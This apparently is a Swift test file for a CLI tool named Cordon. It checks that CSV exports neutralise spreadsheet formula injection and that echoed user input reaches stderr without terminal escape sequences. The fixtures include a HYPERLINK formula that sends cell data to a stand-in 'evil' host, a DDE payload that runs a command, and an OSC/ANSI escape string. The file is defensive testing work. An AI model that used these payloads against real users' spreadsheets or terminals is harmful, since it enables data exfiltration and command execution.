import CordonModel
import EventSourcing
import Foundation
import XCTest

/// Issue 14 items 5 and 9 through the real CLI and real files: no cell of any
/// export reaches a spreadsheet as a formula, exports import back to the same
/// values, and nothing a user typed reaches the terminal raw on stderr.
final class CSVSafetyTests: XCTestCase {
  private static let hyperlink = "=HYPERLINK(\"http://evil/?x=\"&A1;\"点我\")"
  private static let cmd = "+cmd|' /C calc'!A0"

  private func today() -> String {
    let cal = CordonState().calendar
    return cal.formatDay(cal.day(of: Instant.now()))
  }

  private func write(_ dir: URL, _ name: String, _ text: String) throws -> String {
    let url = dir.appendingPathComponent(name)
    try Data(text.utf8).write(to: url)
    return url.path
  }

  private func read(_ path: String) throws -> String {
    var bytes = [UInt8](try XCTUnwrap(FileManager.default.contents(atPath: path)))
    if bytes.starts(with: [0xEF, 0xBB, 0xBF]) { bytes.removeFirst(3) }
    return String(decoding: bytes, as: UTF8.self)
  }

  /// Every cell of a written file, by the project's own reader.
  private func cells(_ path: String) throws -> [String] {
    try CSVReader.read([UInt8](try XCTUnwrap(FileManager.default.contents(atPath: path)))).flatMap(\.fields)
  }

  /// A cell a spreadsheet would evaluate: a trigger first, and not a plain decimal.
  private func isFormula(_ cell: String) -> Bool {
    guard let first = cell.unicodeScalars.first else { return false }
    let triggers: Set<Unicode.Scalar> = ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"]
    guard triggers.contains(first) else { return false }
    return cell.wholeMatch(of: /-?[0-9]+(\.[0-9]+)?/) == nil
  }

  /// Item 5: units, items and people named like formulas, in every CSV
  /// export (org tables, shifts, register, stock, the daily report): each
  /// such cell starts with one quote, Cordon's own negative numbers stay
  /// numbers, and the exported files imported into a second store export
  /// byte for byte the same.
  func testFormulaCellsAreTextInEveryExportAndImportBackUnchanged() throws {
    let dir = try temporaryDirectory("csvinj")
    defer { try? FileManager.default.removeItem(at: dir) }
    let a = dir.appendingPathComponent("a").path
    let b = dir.appendingPathComponent("b").path
    let day = today()

    let units = try write(
      dir, "units.csv",
      """
      编号,名称,英文名称,重点单位,集团机关,上级单位,储备
      hq,"\(Self.hyperlink.replacingOccurrences(of: "\"", with: "\"\""))",HQ,否,是,,是
      u2,\(Self.cmd),u2,否,否,hq,否
      u3,@SUM(1+1),''=x,否,否,hq,否
      u4,－1+1,-2,否,否,hq,否

      """)
    let items = try write(dir, "items.csv", "编号,名称,计量单位\nmask,＠SUM(1),只\ngel,-2+3,＝瓶\n")
    let people = try write(dir, "people.csv", "姓名,单位,电话,类别\n=1+1,hq,,志愿者\n＋甲,u2,,志愿者\n-5,u3,,志愿者\n")
    let shifts = try write(dir, "shifts.csv", "单位,岗位,姓名,开始,结束\nhq,值班人员,=1+1,\(day) 08:00,\(day) 20:00\n")
    let stock = try write(dir, "stock.csv", "单位,物资,数量\nu2,mask,5\n")
    for (what, file) in [("units", units), ("items", items), ("people", people), ("shifts", shifts), ("stock", stock)] {
      let r = try cordon(["import", what, file, "--data", a], in: dir)
      XCTAssertEqual(r.status, 0, "\(what): \(r.stdout)\(r.stderr)")
    }
    // A stocktake two short: the adjustment is Cordon's own -2, a number in the spreadsheet.
    let post = try cordon(
      ["post", "--data", a], input: #"{"type":"count","unit":"u2","item":"mask","counted":3,"reason":"lost"}"# + "\n",
      in: dir)
    XCTAssertEqual(post.status, 0, post.stdout + post.stderr)

    func export(_ args: [String], _ name: String, data: String) throws -> String {
      let out = dir.appendingPathComponent(name).path
      let r = try cordon(args + ["--data", data, "--out", out], in: dir)
      XCTAssertEqual(r.status, 0, "\(args): \(r.stderr)")
      return out
    }
    var files: [String: String] = [:]
    for table in ["units", "items", "people"] {
      files[table] = try export(["org", "export", "--format", "csv", "--table", table], "a-\(table).csv", data: a)
    }
    files["shifts"] = try export(["export", "shifts", "--date", day], "a-shifts.csv", data: a)
    files["register"] = try export(["export", "register", "--date", day], "a-register.csv", data: a)
    files["stock"] = try export(["export", "stock", "--date", day], "a-stock.csv", data: a)
    files["report"] = try export(["report", "daily", "--date", day, "--format", "csv"], "a-report.csv", data: a)

    for (name, path) in files {
      for cell in try cells(path) { XCTAssertFalse(isFormula(cell), "\(name): \(cell)") }
    }
    let unitCells = try cells(try XCTUnwrap(files["units"]))
    XCTAssertTrue(unitCells.contains("'" + Self.hyperlink), "\(unitCells)")
    XCTAssertTrue(unitCells.contains("'" + Self.cmd))
    XCTAssertTrue(unitCells.contains("'@SUM(1+1)"))
    XCTAssertTrue(unitCells.contains("'－1+1"))
    XCTAssertTrue(unitCells.contains("''=x"), "a quote before a trigger gets one more, so it comes back")
    XCTAssertTrue(unitCells.contains("-2"), "a plain decimal is a number, not a formula")
    XCTAssertTrue(try read(try XCTUnwrap(files["units"])).contains("\"'=HYPERLINK(\"\"http://evil/?x=\"\"&A1;"))
    XCTAssertTrue(try cells(try XCTUnwrap(files["people"])).contains("'＋甲"))
    XCTAssertTrue(try cells(try XCTUnwrap(files["shifts"])).contains("'=1+1"))
    XCTAssertTrue(try cells(try XCTUnwrap(files["register"])).contains("'=1+1"))
    XCTAssertTrue(try cells(try XCTUnwrap(files["report"])).contains("'" + Self.hyperlink))
    let stockRows = try CSVReader.read([UInt8](try XCTUnwrap(FileManager.default.contents(atPath: files["stock"]!))))
    let row = try XCTUnwrap(stockRows.first { $0.fields.first == "'" + Self.cmd }, "\(stockRows)")
    XCTAssertEqual(row.fields[1], "'＠SUM(1)")
    XCTAssertEqual(Array(row.fields[3...9]), ["0", "5", "0", "0", "0", "-2", "3"], "Cordon's numbers stay numbers")

    // What was exported imports into a second store as the same values: its exports are the same bytes.
    for (what, key) in [("units", "units"), ("items", "items"), ("people", "people"), ("shifts", "shifts")] {
      let r = try cordon(["import", what, try XCTUnwrap(files[key]), "--data", b], in: dir)
      XCTAssertEqual(r.status, 0, "\(what) back: \(r.stdout)\(r.stderr)")
    }
    for table in ["units", "items", "people"] {
      let again = try export(["org", "export", "--format", "csv", "--table", table], "b-\(table).csv", data: b)
      XCTAssertEqual(try read(again), try read(try XCTUnwrap(files[table])), "\(table) round trip")
    }
    let shiftsAgain = try export(["export", "shifts", "--date", day], "b-shifts.csv", data: b)
    XCTAssertEqual(try read(shiftsAgain), try read(try XCTUnwrap(files["shifts"])))
    let toml = try cordon(["org", "export", "--data", b], in: dir)
    XCTAssertTrue(toml.stdout.contains("name = \"@SUM(1+1)\""), toml.stdout)
    XCTAssertTrue(toml.stdout.contains("nameEn = \"'=x\""), "one quote of the file's two was Cordon's: \(toml.stdout)")
  }

  /// Item 5, the rule itself: over seeded random texts built from triggers,
  /// quotes, digits, dots and letters, `restore` undoes `protect` exactly and
  /// a protected cell is never a formula.
  func testProtectAndRestoreRoundTripEveryText() {
    var random = SplitMix(seed: 0x5EED_C5F)
    let alphabet: [String] = [
      "=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠", "'", "'", "0", "7", ".", "a", "甲", " ",
    ]
    for _ in 0..<20_000 {
      let n = Int(random.next() % 7)
      let text = (0..<n).map { _ in alphabet[Int(random.next() % UInt64(alphabet.count))] }.joined()
      let written = CSVFormula.protect(text)
      XCTAssertEqual(CSVFormula.restore(written), text, "\(text.debugDescription) → \(written.debugDescription)")
      XCTAssertFalse(isFormula(written), written.debugDescription)
    }
    XCTAssertEqual(CSVFormula.protect("-0.5"), "-0.5")
    XCTAssertEqual(CSVFormula.protect("-"), "'-")
    XCTAssertEqual(CSVFormula.protect("-1."), "'-1.")
    XCTAssertEqual(CSVFormula.protect("'plain"), "'plain")
    XCTAssertEqual(CSVFormula.restore("'plain"), "'plain")
  }

  /// Item 9: a header cell holding an OSC title and a clear-screen, an id and
  /// a date typed with escapes: stderr names them without one raw control,
  /// C1 or bidi character.
  func testErrorsEchoingUserInputReachStderrSanitised() throws {
    let dir = try temporaryDirectory("echo")
    defer { try? FileManager.default.removeItem(at: dir) }
    let data = try seededStore(dir).path
    let hostile = "\u{1B}]0;pwned\u{07}\u{1B}[2J\u{9B}31m\u{202E}evil"
    func assertClean(_ text: String, _ what: String, file: StaticString = #filePath, line: UInt = #line) {
      let bad = text.unicodeScalars.filter { UserText.isControl($0) && $0 != "\n" }
      XCTAssertTrue(
        bad.isEmpty, "\(what): \(bad.map { String($0.value, radix: 16) }) in \(text.debugDescription)",
        file: file, line: line)
    }

    let csv = try write(dir, "people.csv", "姓名,\(hostile),单位\n甲,x,hq\n")
    let imported = try cordon(["import", "people", csv, "--data", data, "--lang", "en"], in: dir)
    XCTAssertEqual(imported.status, 1)
    XCTAssertTrue(imported.stderr.contains("\(csv):1: column ]0;pwned[2J31mevil: unknown column"), imported.stderr)
    assertClean(imported.stderr, "unknown column")

    let report = try cordon(["report", "daily", "--data", data, "--unit", hostile], in: dir)
    XCTAssertEqual(report.status, 2)
    XCTAssertTrue(report.stderr.contains("no such unit ]0;pwned[2J31mevil"), report.stderr)
    assertClean(report.stderr, "--unit")

    let date = try cordon(["export", "stock", "--data", data, "--date", hostile], in: dir)
    XCTAssertNotEqual(date.status, 0)
    XCTAssertTrue(date.stderr.contains("]0;pwned"), date.stderr)
    assertClean(date.stderr, "--date, through ArgumentParser")

    let unknown = try cordon(["export", "stock", "--data", data, "--\(hostile)"], in: dir)
    XCTAssertNotEqual(unknown.status, 0)
    assertClean(unknown.stderr, "an unknown option")

    let posted = try cordon(
      ["post", "--data", data],
      input: #"{"type":"ack","alert":"\u001b[2J\u009b31m\u202e"}"# + "\n" + #"{"type":"\u001b]0;x\u0007"}"# + "\n",
      in: dir)
    XCTAssertEqual(posted.status, 1)
    XCTAssertEqual(postResults(posted).count, 2, posted.stdout)
    assertClean(posted.stdout, "post results")
    for r in postResults(posted) { assertClean(r["error"] as? String ?? "", "post error") }
  }

  /// Item 9: a NUL in a cell is refused, naming file, line and column; nothing is imported.
  func testNULInACellIsRefusedNamingFileLineAndColumn() throws {
    let dir = try temporaryDirectory("nul")
    defer { try? FileManager.default.removeItem(at: dir) }
    let data = try seededStore(dir).path
    let csv = try write(dir, "people.csv", "姓名,单位,电话\n甲,hq,\n\"乙\nx\",hq,1\u{0}38\n")
    let before = try cordon(["org", "export", "--format", "csv", "--table", "people", "--data", data], in: dir).stdout
    let r = try cordon(["import", "people", csv, "--data", data, "--lang", "en"], in: dir)
    XCTAssertEqual(r.status, 1)
    XCTAssertTrue(r.stderr.hasPrefix("\(csv):4: column 3: the cell holds a NUL byte (0x00)"), r.stderr)
    XCTAssertEqual(r.stdout, "")
    let zh = try cordon(["import", "people", csv, "--data", data], in: dir)
    XCTAssertTrue(zh.stderr.hasPrefix("\(csv):4: 列 3：单元格含 NUL 字节"), zh.stderr)
    let after = try cordon(["org", "export", "--format", "csv", "--table", "people", "--data", data], in: dir).stdout
    XCTAssertEqual(before, after, "nothing imported")
  }
}
